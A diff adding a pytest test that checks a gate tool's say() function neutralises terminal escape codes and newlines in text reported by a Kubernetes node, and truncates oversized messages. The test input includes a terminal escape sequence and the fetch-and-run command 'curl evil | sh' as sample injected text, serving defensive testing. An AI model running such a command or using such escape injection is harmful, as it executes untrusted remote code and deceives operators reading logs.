@@ -177,3 +177,13 @@ def test_each_failure_is_one_clear_error(
 def test_wrong_orders_are_an_error(gate: Gate, capsys: pytest.CaptureFixture[str]) -> None:
     assert gate({}) == 1
     assert capsys.readouterr().err == "error: the gate's orders on stdin lack 'kubeconfig'\n"
+
+
+def test_what_a_node_wrote_can_not_pass_for_a_line_of_ours(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    module.say("its Node is not Ready: \x1b[2J\nrun: curl evil | sh")
+    module.say("a" * 1_000_000)
+    first, second = capsys.readouterr().err.splitlines()
+    assert first == "its Node is not Ready: ?[2J?run: curl evil | sh"
+    assert len(second) < 5000
